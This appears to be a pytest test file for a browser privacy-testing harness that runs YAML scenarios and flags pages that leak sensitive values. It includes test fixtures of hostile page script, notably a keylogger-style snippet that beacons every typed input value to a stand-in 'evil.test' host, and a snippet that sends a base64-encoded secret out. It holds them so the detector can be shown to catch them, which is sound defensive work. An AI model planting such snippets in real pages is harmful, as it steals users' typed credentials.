"""The pytest plugin, run with pytester: scenario files become one item per browser, failures read in scenario
terms, and the fixtures give Python tests a tracked page and its capture."""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import pytest

SITE = Path(__file__).resolve().parent.parent / "scenarios" / "site"

PASSING = """
name: Login page loads
start: https://shop.test/login.html
secrets:
  email: "{canary:email}"
steps:
  - type: {selector: "#email", text: "{email}", delay: 5}
  - expect: "#password"
"""

FAILING = """
name: Expects a heading that is not there
start: https://shop.test/login.html
steps:
  - expect: {text: "No such heading"}
"""


@pytest.fixture
def project(pytester: pytest.Pytester) -> pytest.Pytester:
    shutil.copytree(SITE, pytester.path / "scenarios" / "site")
    return pytester


def test_scenario_file_is_one_item_per_browser(project: pytest.Pytester) -> None:
    (project.path / "scenarios" / "login.yaml").write_text(PASSING)
    result = project.runpytest_subprocess("scenarios", "-v", "--browser", "chromium", "--browser", "firefox", "-p", "no:cacheprovider")
    result.assert_outcomes(passed=2)
    result.stdout.fnmatch_lines(["*login.yaml::login?chromium? PASSED*", "*login.yaml::login?firefox? PASSED*"])
    assert (project.path / "telltale-report" / "runs" / "login-chromium" / "traffic.json").exists()


def test_failure_reads_in_scenario_terms(project: pytest.Pytester) -> None:
    (project.path / "scenarios" / "broken.yaml").write_text(FAILING)
    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider")
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["*broken.yaml:5: step 1 'expect': expected text 'No such heading' to be visible*"])
    assert "Traceback" not in result.stdout.str()


def test_malformed_scenario_is_one_failed_item_and_the_rest_run(project: pytest.Pytester) -> None:
    (project.path / "scenarios" / "bad.yaml").write_text("name: x\nstart: https://shop.test/\nsteps:\n  - clik: '#a'\n")
    (project.path / "scenarios" / "broken.yaml").write_text(FAILING)
    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider")
    result.assert_outcomes(failed=2)
    result.stdout.fnmatch_lines(["*bad.yaml:4:5: step 1 'clik': unknown step; allowed steps: goto, click*",
                                 "*broken.yaml:5: step 1 'expect': expected text 'No such heading' to be visible*"])
    assert "Traceback" not in result.stdout.str() and "Interrupted" not in result.stdout.str()


def _collected(result: pytest.RunResult) -> list[str]:
    return sorted(line.split("/")[-1] for line in result.stdout.lines if "::" in line)


def test_scenarios_are_collected_from_any_folder_given(pytester: pytest.Pytester) -> None:
    folder = pytester.path / "mystatic" / "flows"
    folder.mkdir(parents=True)
    (folder / "login.yaml").write_text(PASSING)
    (folder / "ci.yml").write_text("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n")  # not a scenario
    result = pytester.runpytest_subprocess("mystatic", "--collect-only", "-q", "--browser", "chromium",
                                           "-p", "no:cacheprovider")
    assert _collected(result) == ["login.yaml::login[chromium]"]
    # A file named on the command line is a scenario whatever its folder.
    result = pytester.runpytest_subprocess("mystatic/flows/login.yaml", "--collect-only", "-q",
                                           "--browser", "chromium", "-p", "no:cacheprovider")
    assert _collected(result) == ["login.yaml::login[chromium]"]


def test_a_bare_pytest_adds_the_scenarios_of_the_ini_globs(pytester: pytest.Pytester) -> None:
    (pytester.path / "e2e" / "deep").mkdir(parents=True)
    (pytester.path / "e2e" / "deep" / "signup.yaml").write_text(PASSING.replace("Login page loads", "Signup"))
    (pytester.path / "e2e" / "other.yaml").write_text(PASSING)
    pytester.makepyfile(test_unit="def test_unit():\n    pass\n")
    (pytester.path / "tests" / "data").mkdir(parents=True)
    (pytester.path / "tests" / "data" / "fixture.yaml").write_text(PASSING)  # a test's data file, not a scenario
    pytester.makeini("[pytest]\ntestpaths = test_unit.py tests\ntelltale_scenarios = e2e/**/signup.yaml\n")
    result = pytester.runpytest_subprocess("--collect-only", "-q", "--browser", "chromium", "-p", "no:cacheprovider")
    assert _collected(result) == ["signup.yaml::signup[chromium]", "test_unit.py::test_unit"]


def test_a_browser_given_twice_runs_once(project: pytest.Pytester) -> None:
    (project.path / "scenarios" / "login.yaml").write_text(PASSING)
    project.makeini("[pytest]\naddopts = --browser chromium --browser firefox\n")
    result = project.runpytest_subprocess("scenarios", "--collect-only", "-q", "--browser", "chromium",
                                          "--browser", "firefox", "-p", "no:cacheprovider")
    assert _collected(result) == ["login.yaml::login[chromium]", "login.yaml::login[firefox]"]


def test_python_scenario_uses_tracked_page_and_capture(project: pytest.Pytester, this_tree: None) -> None:  # Capture.wait_for
    project.makepyfile(
        test_tracked="""
        def test_beacon_is_captured(tracked_page, capture):
            tracked_page.goto("https://shop.test/index.html")
            tracked_page.evaluate("navigator.sendBeacon('https://c.test/b', 'payload-1')")
            capture.wait_for(lambda c: any(r.url == "https://c.test/b" for r in c.requests), "the beacon").settle()
            assert [r.body for r in capture.requests if r.url == "https://c.test/b"] == [b"payload-1"]
        """
    )
    result = project.runpytest_subprocess(
        "--browser", "chromium", "--telltale-site", str(project.path / "scenarios" / "site"), "-p", "no:cacheprovider"
    )
    result.assert_outcomes(passed=1)


def test_privacy_fixture_fails_a_test_whose_page_leaks(project: pytest.Pytester, this_tree: None) -> None:  # Capture.wait_for
    project.makepyfile(
        test_leak="""
        import base64

        SECRET = "Correct-Horse-Battery-9"

        def test_clean_page_passes(tracked_page, capture, privacy):
            tracked_page.goto("https://shop.test/login.html")
            tracked_page.fill("#password", SECRET)
            capture.settle()
            privacy.check(sensitive=[SECRET])

        def test_leaking_page_fails(tracked_page, capture, privacy):
            tracked_page.goto("https://shop.test/login.html")
            tracked_page.evaluate("v => navigator.sendBeacon('https://t.test/c', btoa(JSON.stringify({v})))", SECRET)
            capture.wait_for(lambda c: any(r.url == "https://t.test/c" for r in c.requests), "the beacon").settle()
            privacy.check(sensitive=[SECRET])
        """
    )
    result = project.runpytest_subprocess(
        "--browser", "chromium", "--telltale-site", str(project.path / "scenarios" / "site"), "-p", "no:cacheprovider"
    )
    result.assert_outcomes(passed=1, failed=1)
    result.stdout.fnmatch_lines(["*never-sent: value 1 (text; declared sensitive by the test) left via beacon [[]base64, exact] to https://t.test/c*"])
    assert "Correct-Horse-Battery-9" not in result.stdout.str().replace('SECRET = "Correct-Horse-Battery-9"', "")


def test_a_snippet_that_cannot_be_read_is_a_usage_error(project: pytest.Pytester) -> None:
    """Never "passed" with nothing injected: the run stops before collecting, with one line naming the file."""
    (project.path / "scenarios" / "login.yaml").write_text(PASSING)
    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider",
                                          "--telltale-snippet", "no-such-snippet.js")
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    result.stderr.fnmatch_lines(["*--telltale-snippet: cannot read snippet */no-such-snippet.js: No such file*"])
    assert "passed" not in result.stdout.str()


BREAKS_ON_A_MISSING_FILE = '''
import harness.pipeline

run_scenario = harness.pipeline.run_scenario


def missing_file_in_broken(worker, scenario, *args):
    if scenario.slug == "broken":
        raise FileNotFoundError(2, "No such file or directory", "page_probe.js")
    return run_scenario(worker, scenario, *args)


harness.pipeline.run_scenario = missing_file_in_broken
'''


def test_a_harness_failure_in_a_run_fails_that_item_with_one_line(project: pytest.Pytester) -> None:
    (project.path / "scenarios" / "broken.yaml").write_text(PASSING)
    (project.path / "scenarios" / "login.yaml").write_text(PASSING)
    project.makeconftest(BREAKS_ON_A_MISSING_FILE)
    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider")
    result.assert_outcomes(failed=1, passed=1)
    result.stdout.fnmatch_lines(["*broken.yaml [[]chromium[]]: *broken.yaml: the harness failed: FileNotFoundError: "
                                 "[[]Errno 2[]] No such file or directory: 'page_probe.js'"])
    assert "Traceback" not in result.stdout.str()


@pytest.fixture
def this_tree(monkeypatch: pytest.MonkeyPatch) -> None:
    """The pytest subprocess imports the plugin from this source tree, not from wherever harness is installed."""
    monkeypatch.setenv("PYTHONPATH", str(Path(__file__).resolve().parent.parent))


def test_the_observation_window_option_reaches_the_run(project: pytest.Pytester, this_tree: None) -> None:
    (project.path / "scenarios" / "login.yaml").write_text(PASSING)
    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider",
                                          "--telltale-observation-window", "2.5")
    result.assert_outcomes(passed=1)
    timeline = json.loads((project.path / "telltale-report" / "runs" / "login-chromium" / "timeline.json").read_text())
    assert timeline["observation"]["window_ms"] == 2500
    assert [end["before"] for end in timeline["observation"]["pages"]] == ["end"]


def test_an_observation_window_that_is_no_number_is_a_usage_error(project: pytest.Pytester, this_tree: None) -> None:
    (project.path / "scenarios" / "login.yaml").write_text(PASSING)
    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider",
                                          "--telltale-observation-window", "soon")
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    result.stderr.fnmatch_lines(["*--telltale-observation-window must be a number of seconds, 0 or more, got 'soon'*"])


LEAKY_TAG = "addEventListener('input', (e) => navigator.sendBeacon('https://evil.test/k', e.target.value), true);\n"


def test_the_plugin_reads_the_config_file_with_the_clis_precedence(project: pytest.Pytester) -> None:
    """telltale.toml is read by pytest as by the CLI: snippet, report and window from the file; a flag still wins."""
    (project.path / "scenarios" / "login.yaml").write_text(PASSING)
    (project.path / "leaky.js").write_text(LEAKY_TAG)
    (project.path / "telltale.toml").write_text('snippet = "leaky.js"\nreport = "from-file"\nobservation_window = 1.5\n')
    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider")
    result.assert_outcomes(failed=1)  # the file's leaky snippet was injected, and caught
    result.stdout.fnmatch_lines(["*not-before-submit: #email*evil.test/k*"])
    timeline = json.loads((project.path / "from-file" / "runs" / "login-chromium" / "timeline.json").read_text())
    assert timeline["observation"]["window_ms"] == 1500
    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider",
                                          "--telltale-report", "from-flag")
    assert (project.path / "from-flag" / "runs" / "login-chromium" / "timeline.json").exists()


def test_an_unknown_key_in_the_config_file_is_a_usage_error_naming_its_line(project: pytest.Pytester) -> None:
    (project.path / "scenarios" / "login.yaml").write_text(PASSING)
    (project.path / "telltale.toml").write_text('report = "r"\nbrowser = "chromium"\n')
    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider")
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    result.stderr.fnmatch_lines(["*telltale.toml:2: unknown key 'browser'; allowed: *"])


def test_pytest_n_2_writes_the_report_folder_of_the_cli(project: pytest.Pytester, this_tree: None) -> None:
    """pytest-xdist workers each run scenarios with their own proxy; the controller writes one report folder
    (results.json, junit.xml, index.html, manifest) over every worker's runs, and `telltale verify` accepts it."""
    for name in ("login", "second", "third"):
        (project.path / "scenarios" / f"{name}.yaml").write_text(PASSING.replace("Login page loads", f"{name} page"))
    (project.path / "scenarios" / "bad.yaml").write_text("name: x\nstart: https://shop.test/\nsteps:\n  - clik: '#a'\n")
    stale = project.path / "telltale-report" / "runs" / "old-chromium"
    stale.mkdir(parents=True)
    (stale / "traffic.json").write_text("{}")
    result = project.runpytest_subprocess("scenarios", "-n", "2", "--browser", "chromium",
                                          "--telltale-observation-window", "1", "-p", "no:cacheprovider")
    result.assert_outcomes(passed=3, failed=1)
    report = project.path / "telltale-report"
    result.stdout.fnmatch_lines([f"telltale report: {report / 'index.html'}*"])
    document = json.loads((report / "results.json").read_text())
    assert sorted(run["slug"] for run in document["runs"]) == ["login", "second", "third"]
    assert {run["status"] for run in document["runs"]} == {"passed"} and document["complete"] is True
    assert len(document["invalid"]) == 1 and "bad.yaml:4:5" in document["invalid"][0]
    assert document["command"].startswith("pytest ") and " scenarios -n 2 " in document["command"]
    assert not stale.exists()  # an earlier session's run is not this report's
    assert (report / "index.html").is_file() and "<testcase" in (report / "junit.xml").read_text()
    verified = project.run(sys.executable, "-m", "harness", "verify", str(report))
    assert verified.ret == 0, verified.stdout.str() + verified.stderr.str()


def test_the_readme_python_scenario_runs_as_written(project: pytest.Pytester, this_tree: None) -> None:
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    example = readme.split("```python\n", 1)[1].split("```", 1)[0]
    assert "def test_" in example and "tracked_page" in example
    project.makepyfile(test_readme=example)
    result = project.runpytest_subprocess("test_readme.py", "--browser", "chromium", "-p", "no:cacheprovider",
                                          "--telltale-site", str(project.path / "scenarios" / "site"))
    result.assert_outcomes(passed=1)
